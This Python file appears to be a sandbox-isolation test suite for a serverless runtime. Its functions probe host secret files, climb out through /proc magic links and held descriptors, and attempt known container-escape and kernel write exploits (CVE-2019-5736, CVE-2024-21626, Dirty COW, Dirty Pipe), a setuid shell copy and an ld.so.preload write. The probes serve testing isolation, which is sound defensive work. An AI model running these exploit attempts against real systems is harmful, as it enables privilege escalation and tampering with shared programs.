"""Files of the host, ways around paths, and writing where nothing may be written."""

import ctypes
import errno
import hashlib
import mmap
import os
import stat
import subprocess
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
SHARED = ("/usr/bin/env", "/var/task/app.py", "/var/runtime/sandlot_sandbox/frames.py")


def attempt(step):
    try:
        step()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
    return "ok"


def each(answers):
    return sorted(set(answers))


def digest(path):
    with open(path, "rb") as file:
        return hashlib.sha256(file.read()).hexdigest()


def nothing(event):
    return "nothing"


# Seeing.


def read_folders_of_the_host(event):
    """Homes, data, services: none of it has a name in here."""
    paths = "/root /home /srv /mnt /media /run /boot /sys /host /work /usr/local/bin"
    paths += " /var/log /var/lib /var/run /var/cache /var/spool /etc/cron.d /lost+found"
    return each(attempt(lambda: os.listdir(path)) for path in paths.split())


def read_secrets_of_the_host(event):
    """What a break-in looks for first."""
    paths = (
        "/etc/shadow /etc/sudoers /etc/ssh/sshd_config /etc/machine-id /root/.bashrc"
    )
    paths += " /etc/ssl/private /var/run/docker.sock /run/containerd/containerd.sock"
    paths += " /.dockerenv /dev/kmsg /etc/fstab /etc/crontab /run/systemd/private"
    return each(attempt(lambda: os.stat(path)) for path in paths.split())


def read_secrets_of_the_engine(event):
    """The folder where the packages of all tenants lie, by its name on the host."""
    return each(attempt(lambda: os.listdir(path)) for path in event["paths"])


def read_the_kernels_files(event):
    """/proc without its machine-wide part; no /sys, no cgroup file system."""
    paths = (
        "kcore kmsg kallsyms keys key-users sysrq-trigger sys sys/kernel/core_pattern"
    )
    paths += (
        " modules sched_debug timer_list iomem meminfo cpuinfo stat locks interrupts"
    )
    paths += " acpi scsi bus fs irq config.gz version uptime loadavg swaps partitions"
    return each(attempt(lambda: os.stat("/proc/" + path)) for path in paths.split())


def follow_magic_links_of_process_1(event):
    """/proc/1/root is a door to another's root, if it opens."""
    names = (
        "root/etc",
        "cwd",
        "exe",
        "fd/0",
        "fd/3",
        "mem",
        "maps",
        "environ",
        "ns/mnt",
    )
    return each(attempt(lambda: os.stat("/proc/1/" + name)) for name in names)


def follow_own_magic_links(event):
    """Whether /proc/self/root and cwd lead above the root."""
    root = os.stat("/")
    for path in ("root/..", "root/../..", "cwd/../../../..", "task/self/root/.."):
        try:
            seen = os.stat("/proc/self/" + path)
        except OSError:
            continue
        if (seen.st_dev, seen.st_ino) != (root.st_dev, root.st_ino):
            return path
    return "the same root"


def climb_from_a_held_folder(event):
    """openat(fd, "..") over and over, from folders on every mount."""
    root = os.stat("/")
    for start in ("/", "/tmp", "/var/task", "/usr/lib", "/proc/self", "/dev"):
        fd = os.open(start, os.O_RDONLY)
        for _ in range(20):
            fd = os.open("..", os.O_RDONLY, dir_fd=fd)
        seen = os.fstat(fd)
        if (seen.st_dev, seen.st_ino) != (root.st_dev, root.st_ino):
            return start
    return "the same root"


def rename_while_climbing(event):
    """A folder that is moved above while somebody walks up from it (CVE-2015-2925)."""
    os.makedirs("/tmp/a/b/c", exist_ok=True)
    fd = os.open("/tmp/a/b/c", os.O_RDONLY)
    try:
        os.rename("/tmp/a/b/c", "/tmp/c")
        os.rmdir("/tmp/a/b")
    except OSError:
        pass  # then the folder is not moved: what is asked is where ".." leads
    for _ in range(20):
        fd = os.open("..", os.O_RDONLY, dir_fd=fd)
    seen, root = os.fstat(fd), os.stat("/")
    return (seen.st_dev, seen.st_ino) == (root.st_dev, root.st_ino)


def point_links_at_the_host(event):
    """Symbolic links are looked up in here, whoever made them."""
    answers = []
    for number, target in enumerate(("/etc/shadow", "../../../../etc/shadow", "/root")):
        link = "/tmp/link%d" % number
        os.symlink(target, link)
        answers.append(attempt(lambda: os.stat(link)))
    return each(answers)


def look_for_descriptors(event):
    """What is open in an instance: null, the log twice, the channel."""
    kinds = []
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            target = os.readlink("/proc/self/fd/" + name)
        except OSError:
            continue  # the listing's own
        kinds.append([int(name), target.partition(":")[0]])
    return kinds


def use_descriptors_as_folders(event):
    """A leaked folder would be a way out (CVE-2024-21626)."""
    answers = []
    for fd in range(64):
        answers.append(attempt(lambda: os.open("../../../etc/shadow", 0, dir_fd=fd)))
        answers.append(attempt(lambda: os.listdir("/proc/self/fd/%d/.." % fd)))
    return each(answers)


def look_for_writable_mounts(event):
    """By mountinfo: what may be written, and what lets devices or setuid through."""
    found = set()
    with open("/proc/self/mountinfo") as file:
        for line in file:
            fields = line.split()
            options = fields[5].split(",")
            if "nosuid" not in options:
                found.add((fields[4], "setuid"))
            if "nodev" not in options and not fields[4].startswith("/dev/"):
                found.add((fields[4], "devices"))
            if "ro" not in options and not fields[4].startswith("/dev/"):
                found.add((fields[4], "writable"))
    return sorted(found)


# Writing.


def write_everywhere(event):
    """A new file in every folder there is, but for /tmp and /proc."""
    hit = []
    for folder, folders, _ in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("tmp", "proc")]
        if attempt(lambda: os.open(folder + "/x", os.O_CREAT | os.O_WRONLY)) == "ok":
            hit.append(folder)
        if folder.count("/") > 3:
            folders.clear()
    return hit


def overwrite_what_others_run(event):
    """The interpreter, libc, our own runtime, the package: all that is shared."""
    import sys

    paths = [*SHARED, sys.executable, os.path.realpath("/lib64/ld-linux-x86-64.so.2")]
    paths += ["/etc/passwd", "/etc/ld.so.cache", "/etc/resolv.conf", "/etc/hosts"]
    answers = []
    for path in paths:
        for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
            answers.append(attempt(lambda: os.open(path, flags)))
        answers += [
            attempt(lambda: os.unlink(path)),
            attempt(lambda: os.truncate(path, 0)),
        ]
        answers.append(attempt(lambda: os.rename(path, path + ".old")))
    return each(answers)


def overwrite_proc_self_exe(event):
    """CVE-2019-5736: the running program through its own magic link, also from a
    child that has meanwhile become another program."""
    answers = [attempt(lambda: os.open("/proc/self/exe", os.O_WRONLY))]
    fd = os.open("/proc/self/exe", os.O_RDONLY)
    pid = os.fork()
    if pid == 0:
        os.set_inheritable(fd, True)
        script = "(: > /proc/self/fd/%d) 2>/dev/null && exit 1 || exit 0" % fd
        os.execv("/bin/sh", ["sh", "-c", script])
    answers.append("exit %d" % os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
    answers.append(attempt(lambda: os.open("/proc/self/fd/%d" % fd, os.O_RDWR)))
    return each(answers)


def reopen_for_writing(event):
    """A descriptor opened for reading, opened again by its number."""
    answers = []
    for path in SHARED:
        for flags in (os.O_RDONLY, os.O_PATH):
            fd = os.open(path, flags)
            name = "/proc/self/fd/%d" % fd
            answers.append(attempt(lambda: os.open(name, os.O_RDWR)))
            answers.append(attempt(lambda: os.chmod(name, 0o777)))
            answers.append(attempt(lambda: os.utime(name)))
    return each(answers)


def change_what_describes_files(event):
    """Modes, owners, times, attributes, links of what is shared."""
    answers = []
    for path in (*SHARED, "/", "/var/task", "/usr/lib", "/dev"):
        answers += [
            attempt(lambda: os.chmod(path, 0o777)),
            attempt(lambda: os.chown(path, 1000, 1000)),
            attempt(lambda: os.utime(path)),
            attempt(lambda: os.setxattr(path, "user.mine", b"1")),
        ]
    return each(answers)


def touch_the_hosts_devices(event):
    """The times of /dev/null: its inode is the host's, and all tenants see it."""
    names = ("null", "zero", "full", "random", "urandom")
    return each(attempt(lambda: os.utime("/dev/" + name)) for name in names)


def change_the_hosts_devices(event):
    """Mode, owner, attributes of the device files that all jails share."""
    answers = []
    for name in ("null", "zero", "full", "random", "urandom"):
        path = "/dev/" + name
        answers += [
            attempt(lambda: os.chmod(path, 0)),
            attempt(lambda: os.unlink(path)),
        ]
        answers.append(attempt(lambda: os.chown(path, 1000, 1000)))
        answers.append(attempt(lambda: os.setxattr(path, "user.mine", b"1")))
        answers.append(attempt(lambda: os.rename(path, "/dev/x")))
    return sorted(set(answers) - {"EPERM", "EROFS", "EBUSY"})


def link_across(event):
    """Hard links: to programs, to a setuid one, to an open descriptor."""
    answers = [attempt(lambda: os.link(path, "/tmp/hard")) for path in SHARED]
    answers.append(attempt(lambda: os.link("/usr/bin/su", "/tmp/su")))
    fd = os.open("/usr/bin/env", os.O_RDONLY)
    link = libc.linkat(-100, b"/proc/self/fd/%d" % fd, -100, b"/tmp/by-fd", 0x400)
    answers.append("ok" if link == 0 else errno.errorcode[ctypes.get_errno()])
    return each(answers)


def make_devices(event):
    """mknod: the memory, a disk, a terminal; and opening those that might be there."""
    answers = []
    for kind, major, minor in (
        (stat.S_IFCHR, 1, 1),
        (stat.S_IFBLK, 8, 0),
        (stat.S_IFCHR, 5, 0),
    ):
        device = os.makedev(major, minor)
        answers.append(attempt(lambda: os.mknod("/tmp/d", kind | 0o666, device)))
    return each(answers)


def open_devices(event):
    """Memory, terminals, virtual machines, disks, network, the kernel's log."""
    names = "mem kmem port kmsg tty console ptmx pts/0 kvm fuse net/tun sda vda loop-control"
    names += " mapper/control shm mqueue userfaultfd vsock vhost-net snd input dri hpet"
    return each(attempt(lambda: os.stat("/dev/" + name)) for name in names.split())


def run_setuid_programs(event):
    """Every set-user-id program that the host's /usr/bin has; who they run as."""
    worst = os.getuid()
    for entry in os.scandir("/usr/bin"):
        if entry.is_file() and entry.stat().st_mode & stat.S_ISUID:
            pid = os.fork()
            if pid == 0:
                null = os.open("/dev/null", os.O_RDWR)
                for fd in range(4):
                    os.dup2(null, fd)
                try:
                    os.execv(entry.path, [entry.path, "--sandlot"])
                finally:
                    os._exit(0)
            time.sleep(0.01)
            try:
                with open("/proc/%d/status" % pid) as file:
                    ids = [l for l in file if l.startswith("Uid:")][0].split()[1:]
                worst = min(worst, *map(int, ids))
            except (OSError, IndexError):
                pass
            os.kill(pid, 9)
            os.waitpid(pid, 0)
    return worst


def make_a_setuid_program(event):
    """A copy of a shell in /tmp with the bit set, run."""
    with open("/bin/sh", "rb") as source, open("/tmp/sh", "wb") as target:
        target.write(source.read())
    os.chmod("/tmp/sh", 0o6755)
    return int(subprocess.check_output(["/tmp/sh", "-pc", "id -u"]))


def preload_a_library(event):
    """/etc/ld.so.preload would run in every program of the jail."""
    return attempt(lambda: open("/etc/ld.so.preload", "w"))


def write_its_own_proc_files(event):
    """Lower the out-of-memory score, change id maps, audit ids, security labels."""
    answers = []
    for name, value in {
        "oom_score_adj": b"-1000",
        "oom_adj": b"-17",
        "uid_map": b"0 0 1",
        "gid_map": b"0 0 1",
        "setgroups": b"allow",
        "attr/current": b"unconfined",
        "attr/exec": b"unconfined",
        "timens_offsets": b"monotonic 100 0",
        "autogroup": b"-20",
    }.items():

        def step():
            fd = os.open("/proc/self/" + name, os.O_WRONLY)
            os.write(fd, value)

        if attempt(step) == "ok":
            answers.append(name)
    return answers


# Writing to what is only mapped for reading.


def write_through_a_mapping(event):
    """/proc/self/mem writes where the mapping says no; the file must not change."""
    changed = []
    for path in SHARED:
        before = digest(path)
        with open(path, "rb") as file:
            for flags in (mmap.MAP_SHARED, mmap.MAP_PRIVATE):
                view = mmap.mmap(file.fileno(), 4096, flags=flags, prot=mmap.PROT_READ)
                address = libc_address(view)
                try:
                    with open("/proc/self/mem", "r+b", buffering=0) as memory:
                        memory.seek(address)
                        memory.write(b"sandlot was here")
                except OSError:
                    pass
        if digest(path) != before:
            changed.append(path)
    return changed


def libc_address(view):
    """Where a read-only mapping lies: ctypes does not tell, /proc does."""
    with open("/proc/self/maps") as file:
        lines = file.read().splitlines()
    probe = bytes(view[:64])
    for line in lines:
        start = int(line.split("-")[0], 16)
        if line.split()[1].startswith("r--") and line.split()[-1].startswith("/"):
            if ctypes.string_at(start, 64) == probe:
                return start
    return 0


def race_for_a_dirty_cow(event):
    """CVE-2016-5195: throw the private copy away while it is being written."""
    path, until = "/usr/bin/env", time.monotonic() + 0.3
    before = digest(path)
    with open(path, "rb") as file:
        view = mmap.mmap(
            file.fileno(), 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ
        )
    address = libc_address(view)

    def drop():
        while time.monotonic() < until:
            view.madvise(mmap.MADV_DONTNEED)

    thread = threading.Thread(target=drop)
    thread.start()
    while time.monotonic() < until:
        try:
            with open("/proc/self/mem", "r+b", buffering=0) as memory:
                memory.seek(address)
                memory.write(b"sandlot was here")
        except OSError:
            pass
    thread.join()
    return digest(path) == before


def leave_a_dirty_pipe(event):
    """CVE-2022-0847: write into a page of a file that was spliced into a pipe."""
    path = "/usr/bin/env"
    before = digest(path)
    read, write = os.pipe()
    size = 65536
    os.write(write, bytes(size))
    os.read(read, size)
    fd = os.open(path, os.O_RDONLY)
    offset = ctypes.c_longlong(4)
    libc.splice(fd, ctypes.byref(offset), write, None, ctypes.c_size_t(1), 0)
    os.write(write, b"sandlot was here")
    return digest(path) == before


def copy_into_what_is_read_only(event):
    """copy_file_range, sendfile and splice take two descriptors; one is a program's."""
    source = os.open("/tmp/source", os.O_RDWR | os.O_CREAT)
    os.write(source, b"x" * 100)
    os.lseek(source, 0, 0)
    target = os.open("/usr/bin/env", os.O_RDONLY)
    read, write = os.pipe()
    os.write(write, b"x")
    answers = [attempt(lambda: os.sendfile(target, source, 0, 10))]
    number = ctypes.c_long(326)
    for got in (
        libc.syscall(number, source, None, target, None, ctypes.c_size_t(10), 0),
        libc.splice(read, None, target, None, ctypes.c_size_t(1), 0),
    ):
        answers.append("ok" if got >= 0 else errno.errorcode[ctypes.get_errno()])
    return each(answers)


def handler(event, context):
    return globals()[event["do"]](event)
